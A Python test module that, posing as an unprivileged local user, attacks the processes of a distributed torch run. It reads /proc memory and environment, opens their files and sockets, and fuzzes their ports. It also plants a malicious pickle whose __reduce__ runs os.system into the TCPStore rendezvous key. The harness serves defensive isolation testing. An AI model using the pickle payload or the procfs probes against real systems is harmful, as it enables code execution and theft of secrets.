"""What another user of the machine can try against the processes of a run, and what came of it."""

import base64
import contextlib
import encodings.idna  # noqa: F401  # sockets need it, and another user may not be able to read it
import json
import os
import pickle
import random
import signal
import socket
import struct
import traceback
from collections.abc import Callable, Iterable
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore  # type: ignore[attr-defined] # exported, but untyped

UID = 65534
_ACCEPTS_CONNECTIONS = 0x10000
_LISTENS = "0A"


def processes_of(root: int) -> list[int]:
    """A process and all that descend from it."""
    children: dict[int, list[int]] = {}
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            fields = (folder / "stat").read_text().rpartition(")")[2].split()
            children.setdefault(int(fields[1]), []).append(int(folder.name))
    found = [root]
    for pid in found:
        found += children.get(pid, [])
    return found


def _links(pids: Iterable[int]) -> dict[str, Path]:
    """What processes have open: by name, one of the entries in /proc."""
    found = {}
    for pid in pids:
        with contextlib.suppress(OSError):
            for entry in Path(f"/proc/{pid}/fd").iterdir():
                with contextlib.suppress(OSError):
                    found[str(entry.readlink())] = entry
    return found


def listeners_of(pids: Iterable[int]) -> tuple[set[tuple[str, int]], set[str]]:
    """Sockets on which processes listen: (hexadecimal address, port) of TCP, names of Unix."""
    inodes = {name[8:-1] for name in _links(pids) if name.startswith("socket:[")}
    tcp, unix = set(), set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == _LISTENS and fields[9] in inodes:
                address, port = fields[1].split(":")
                tcp.add((address, int(port, 16)))
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        fields = line.split()
        if int(fields[3], 16) & _ACCEPTS_CONNECTIONS and fields[6] in inodes:
            unix.add(" ".join(fields[7:]))
    return tcp, unix


class _Leaves:
    """Whoever unpickles it leaves a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return os.system, (f"id > {self.path}",)


def attack(pids: list[int], name: str, marker: Path) -> list[str]:
    """As another user, try everything against the processes of a run.

    Args:
        pids: Of the run.
        name: Of the run, which torch's agent takes for a name in its store.
        marker: Is made by a pickle that is planted, if anybody unpickles it.

    Returns:
        What could be done: files opened, sockets of other kinds connected to, stores written.
    """
    tcp, unix = listeners_of(pids)
    opened = _links(pids)
    ours, theirs = os.pipe()
    child = os.fork()
    if child == 0:
        done = []
        try:
            os.setgroups([])
            os.setgid(UID)
            os.setuid(UID)
            done = _try_all(pids, opened, unix, {port for _, port in tcp}, (name, marker))
        except BaseException:  # noqa: BLE001 - a failed attack must not pass for a harmless one
            done = [traceback.format_exc()]
        finally:
            os.write(theirs, json.dumps(done).encode())
            os._exit(0)
    os.close(theirs)
    with os.fdopen(ours) as answer:
        done = json.load(answer)
    os.waitpid(child, 0)
    return [str(what) for what in done]


def _try_all(
    pids: list[int],
    opened: dict[str, Path],
    unix: set[str],
    ports: set[int],
    plant: tuple[str, Path],
) -> list[str]:
    done = []
    for pid in pids:
        for name in ("mem", "environ", "fd", "cwd/."):
            with contextlib.suppress(OSError):
                flag = os.O_RDWR if name == "mem" else os.O_RDONLY
                os.close(os.open(f"/proc/{pid}/{name}", flag))
                done.append(f"opened /proc/{pid}/{name}")
    public = ("/dev/null", "/dev/zero", "/dev/urandom", "/dev/tty", "/dev/pts")
    for target, entry in opened.items():
        for path in (str(entry), target):
            with contextlib.suppress(OSError):
                if path.startswith("/") and not path.startswith(public):
                    os.close(os.open(path, os.O_RDWR))
                    done.append(f"opened {path}: {target}")
    for named in unix:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.connect("\0" + named[1:] if named.startswith("@") else named)
            done.append(f"connected to {named}")
    for shared in Path("/dev/shm").iterdir():
        if any(str(shared) in target for target in opened):
            with contextlib.suppress(OSError), shared.open("r+b"):
                done.append(f"opened {shared}")
    clients = {_write_to_store(port, *plant): port for port in ports}
    written = [port for client, port in clients.items() if os.waitpid(client, 0)[1] == 0]
    for port in ports:
        _write_junk(port)
    return done + [f"wrote to the store at port {port}" for port in written]


def _write_to_store(port: int, name: str, marker: Path) -> int:
    """Start a process that writes to a store, if that is one, and return its process id."""
    key, pickled = f"torch.rendezvous.{name}", base64.b64encode(pickle.dumps(_Leaves(marker)))
    child = os.fork()
    if child == 0:  # a client of the store waits for ever for an answer of what is none
        signal.alarm(2)
        try:
            store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=1))
            store.set(key, pickled.decode())
        except (RuntimeError, OSError):
            os._exit(1)
        os._exit(0)
    return child


def _write_junk(port: int) -> None:
    """Connect and say: nothing, a part of a number, numbers of Gloo's connections, anything."""
    chance = random.Random(port)
    numbers = [struct.pack("<Q", number) for number in range(64)]
    said = [b"", b"\0" * 3, *numbers, *(number + bytes(512) for number in numbers)]
    said += [chance.randbytes(chance.randrange(1, 5000)) for _ in range(64)]
    for words in said:
        with contextlib.suppress(OSError):
            client = socket.create_connection(("127.0.0.1", port), timeout=1)
            client.sendall(words)
            client.detach()  # left open: nobody is told that it is over
